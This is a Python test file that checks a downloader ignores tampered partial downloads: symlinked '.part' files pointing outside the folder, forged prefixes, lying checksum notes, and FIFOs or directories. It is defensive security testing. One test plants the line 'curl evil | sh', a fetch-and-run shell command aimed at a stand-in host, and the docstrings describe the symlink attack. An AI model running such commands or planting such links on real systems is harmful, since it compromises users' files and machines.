"""Downloads trust nothing already on disk (issue 21): a planted ``.part``, note or target
is never followed, never believed, and nothing is reported verified unless the bytes on
disk match the server's own validators. Against the simulator on 127.0.0.1."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from tenacity import wait_none

from qianfan_export_wait import ExportStatus, ExportStatusClient
from qianfan_export_wait.download import Downloader
from qianfan_export_wait.errors import DownloadError, UnsafeFileError
from qianfan_export_wait.testing import SimulatedQianfan, simulated_qianfan

SIZE = 200_000


@pytest.fixture
async def fake() -> AsyncIterator[SimulatedQianfan]:
    async with simulated_qianfan(file_sizes=(SIZE, SIZE)) as simulated:
        yield simulated


@pytest.fixture
async def client(fake: SimulatedQianfan) -> AsyncIterator[ExportStatusClient]:
    async with fake.client(max_attempts=1) as status_client:
        yield status_client


def _downloader(fake: SimulatedQianfan, dest: Path, **options: Any) -> Downloader:
    options.setdefault("retry_wait", wait_none())
    return Downloader(dest, credentials=fake.credentials, bos_endpoint=fake.base_url, **options)


async def _done(fake: SimulatedQianfan, client: ExportStatusClient) -> ExportStatus:
    export = fake.add_export(finish_after=0, export_type="local")
    return await client.get_status(export.export_id)


def _true_bytes(fake: SimulatedQianfan, status: ExportStatus) -> bytes:
    return b"".join(fake.simulator.file_of(status.export_id).iter_range())


def _layout(tmp_path: Path, fake: SimulatedQianfan, status: ExportStatus) -> tuple[Path, str]:
    folder = tmp_path / "dl" / str(status.export_id)
    folder.mkdir(parents=True)
    return folder, fake.simulator.file_of(status.export_id).name


def _plant_note(folder: Path, name: str, etag: str, size: int | None, md5: str | None) -> None:
    note = {"etag": etag, "size": size, "md5": md5, "sha256": None}
    (folder / f".{name}.part.json").write_text(json.dumps(note), "utf-8")


def _etag(fake: SimulatedQianfan, status: ExportStatus) -> str:
    return f'"{fake.simulator.file_of(status.export_id).digest().md5_hex}"'


async def test_part_that_links_outside_the_folder_is_never_followed(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    """The issue's first attack: a ``.part`` symlink to a file outside the folder, and a
    note with the real ETag and ``"md5": null``. Before the fix the download's bytes were
    appended to the outside file and the link renamed into place, reported verified."""
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    outside = tmp_path / "victim.txt"
    outside.write_bytes(b"precious\n")
    (folder / f".{name}.part").symlink_to(outside)
    _plant_note(folder, name, _etag(fake, status), SIZE, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        with pytest.raises(UnsafeFileError, match="symbolic link") as caught:
            await downloader.download(status)
    assert f".{name}.part" in str(caught.value)
    assert outside.read_bytes() == b"precious\n"
    assert not (folder / name).exists() and not (folder / name).is_symlink()
    assert fake.stats.total_file_requests == 0


async def test_planted_prefix_is_not_believed_and_the_whole_file_is_fetched(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    """The issue's second attack: a regular ``.part`` starting ``#!/bin/sh`` with a note
    carrying the real ETag. Before the fix the file ended as prefix plus true suffix,
    reported verified with a sha256 that was not the file's."""
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    (folder / f".{name}.part").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    _plant_note(folder, name, _etag(fake, status), SIZE, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        record = await downloader.download(status)
    truth = _true_bytes(fake, status)
    on_disk = await asyncio.to_thread(Path(record.path).read_bytes)
    assert on_disk == truth
    assert (record.bytes, record.sha256) == (len(on_disk), hashlib.sha256(on_disk).hexdigest())
    assert sorted(p.name for p in folder.iterdir()) == [name]


async def test_planted_prefix_with_a_lying_note_md5_is_not_believed(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    """The note's own size and MD5 describe the forged file: they prove nothing."""
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    truth = _true_bytes(fake, status)
    prefix = b"#!/bin/sh\n"
    forged = prefix + truth[len(prefix) :]
    (folder / f".{name}.part").write_bytes(forged[:1000])
    _plant_note(folder, name, _etag(fake, status), SIZE, hashlib.md5(forged).hexdigest())
    async with _downloader(fake, tmp_path / "dl") as downloader:
        record = await downloader.download(status)
    assert await asyncio.to_thread(Path(record.path).read_bytes) == truth
    assert record.sha256 == hashlib.sha256(truth).hexdigest()


async def test_true_prefix_is_resumed_and_checked_whole(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    truth = _true_bytes(fake, status)
    (folder / f".{name}.part").write_bytes(truth[:5000])
    _plant_note(folder, name, _etag(fake, status), None, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        record = await downloader.download(status)
    assert await asyncio.to_thread(Path(record.path).read_bytes) == truth
    assert fake.stats.resumed_with_if_match == 1
    assert fake.stats.file_requests_by_outcome["full"] == 0


@pytest.mark.parametrize("kind", ["fifo", "directory", "link_to_nothing"])
async def test_part_that_is_not_a_regular_file_is_refused_without_blocking(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path, kind: str
) -> None:
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    part = folder / f".{name}.part"
    if kind == "fifo":
        os.mkfifo(part)
    elif kind == "directory":
        part.mkdir()
    else:
        part.symlink_to(tmp_path / "nothing-here")
    _plant_note(folder, name, _etag(fake, status), SIZE, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        with pytest.raises(UnsafeFileError, match=r"\.part"):
            await downloader.download(status)
    assert not (tmp_path / "nothing-here").exists()


@pytest.mark.parametrize("which", ["note", "target"])
async def test_note_or_target_that_is_a_link_is_refused(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path, which: str
) -> None:
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps({"etag": _etag(fake, status)}), "utf-8")
    link = folder / (f".{name}.part.json" if which == "note" else name)
    link.symlink_to(outside)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        with pytest.raises(UnsafeFileError, match="symbolic link"):
            await downloader.download(status)
    assert json.loads(outside.read_text("utf-8")) == {"etag": _etag(fake, status)}


async def test_every_refusal_is_a_download_error(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    (folder / name).mkdir()
    async with _downloader(fake, tmp_path / "dl") as downloader:
        with pytest.raises(DownloadError):
            await downloader.download(status)
